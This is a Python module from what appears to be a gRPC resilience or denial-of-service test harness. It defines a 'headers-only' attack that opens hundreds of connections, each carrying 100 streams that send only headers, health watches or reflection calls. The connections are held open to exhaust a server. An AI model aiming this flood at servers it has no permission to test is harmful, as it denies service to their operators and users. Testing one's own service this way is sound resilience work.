"""Calls of which only the headers come, and those that gRPC answers by itself."""

from . import wire
from .attack import Attack

_CONNECTIONS, _STREAMS = 400, 100
_CONNECTIONS_PER_SECOND = 150
_METHODS = (
    (wire.SERVICE + "CreateCheckpoint", None),
    ("/grpc.health.v1.Health/Watch", b""),
    ("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", None),
)


class HeadersOnly(Attack):
    name = "headers-only"
    about = f"{_CONNECTIONS} connections of {_STREAMS} calls of which only the headers come; the same with health watches, and reflection"

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        port = int(address.rpartition(":")[2])
        for method, body in _METHODS:
            headers = wire.call_headers(method)
            calls = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, headers)
                             + (b"" if body is None else wire.frame(wire.DATA, wire.END_STREAM, 2 * i + 1, wire.message(body)))
                             for i in range(_STREAMS))
            wire.open_and_hold(port, _CONNECTIONS, _CONNECTIONS_PER_SECOND, wire.greeting() + calls, seconds / len(_METHODS))
        return []
